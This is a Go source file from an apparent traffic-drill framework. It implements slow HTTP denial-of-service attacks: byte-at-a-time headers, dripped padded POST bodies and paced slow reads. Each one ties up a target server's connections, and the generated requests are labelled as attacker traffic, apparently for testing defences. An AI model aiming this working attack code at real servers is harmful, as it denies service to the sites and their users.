package drill

import (
	"context"
	"math/rand/v2"
	"net"
	"net/http"
	"strconv"
	"time"

	"github.com/seawall/seawall/internal/drill/scenario"
	"github.com/seawall/seawall/internal/drill/site"
	"github.com/seawall/seawall/internal/drill/wire"
)

const (
	slowGap   = time.Second // between two bytes, on average
	slowForm  = 8 << 10     // bytes of a slow body
	slowFirst = 16          // of those, sent at once
	slowPace  = 200         // bytes a second of a slow reader
)

// slow opens a connection that keeps the target busy with one request for as long as it can: by a head or a body that
// comes a byte at a time, or by reading what it asked for no faster.
func (a *attack) slow(ctx context.Context, s slot) {
	k := a.field.pool.hold(a, &a.bots[s.bot])
	if k == nil {
		a.withhold()
		return
	}
	k.look = a.wardrobe.of(s)
	if a.Kind != scenario.SlowRead {
		k.look = k.look.plain()
	}
	a.wg.Go(func() {
		a.field.account.late(s.at)
		a.field.account.begin()
		status := 0
		err := a.connect(ctx, k, time.Now().Add(a.timeout))
		if err == nil {
			status, err = a.dawdle(ctx, k, s)
		}
		a.settle(ctx, k, err, func() { a.field.account.answer(status, 1) })
	})
}

// dawdle draws the request and takes its time with it.
func (a *attack) dawdle(ctx context.Context, k *link, s slot) (status int, err error) {
	rng := rand.New(rand.NewPCG(s.seed, 0))
	t := a.choice.draw(rng)
	path := string(t.path.append(nil, rng, a.field.content))
	q := t.request(path, k.look, a.dialer.Target, rng, a.field.content)
	if a.Kind == scenario.SlowBody {
		q = slowed(q)
	}
	if a.Kind != scenario.SlowHead { // whose request never reaches the site
		defer a.field.truth.enter(k.bot.source, q.Method, path, site.Attacker)()
	}
	if a.Kind == scenario.SlowRead {
		q.Pace = slowPace
		var r wire.Response
		err := k.conn.Do(ctx, &q, &r, nil)
		return r.Status, err
	}
	whole := k.look.Render(a.dialer.Target, &q)
	begin := len(whole) - len(q.Body) + slowFirst
	if a.Kind == scenario.SlowHead {
		begin = len(whole) / 2
	}
	return drip(k.conn.Raw(), whole, begin, rng, a.timeout)
}

// slowed is q with a body that takes hours at a byte a second.
func slowed(q wire.Request) wire.Request {
	q.Method = http.MethodPost
	if len(q.Body) == 0 {
		q.Body = []byte("message=")
	}
	for word := q.Body; len(q.Body) < slowForm; {
		q.Body = append(append(q.Body, '&'), word...)
	}
	q.Fields = typed(q.Fields)
	return q
}

// drip sends the first bytes of a request at once and the others one at a time, but for the last, until there is an
// answer, whose status it returns.
func drip(nc net.Conn, request []byte, first int, rng *rand.Rand, timeout time.Duration) (status int, err error) {
	answer := make([]byte, len("HTTP/1.1 200"))
	for have := 0; ; {
		_ = nc.SetWriteDeadline(time.Now().Add(timeout))
		if _, err := nc.Write(request[:first]); err != nil {
			return 0, err
		}
		request = request[first:]
		first = min(1, len(request)-1)
		_ = nc.SetReadDeadline(time.Now().Add(slowGap/2 + time.Duration(rng.Int64N(int64(slowGap)))))
		n, err := nc.Read(answer[have:])
		if have += n; have == len(answer) {
			status, err = strconv.Atoi(string(answer[have-3:]))
			return status, err
		}
		if err != nil && wire.Why(err) != "timeout" {
			return 0, err
		}
	}
}
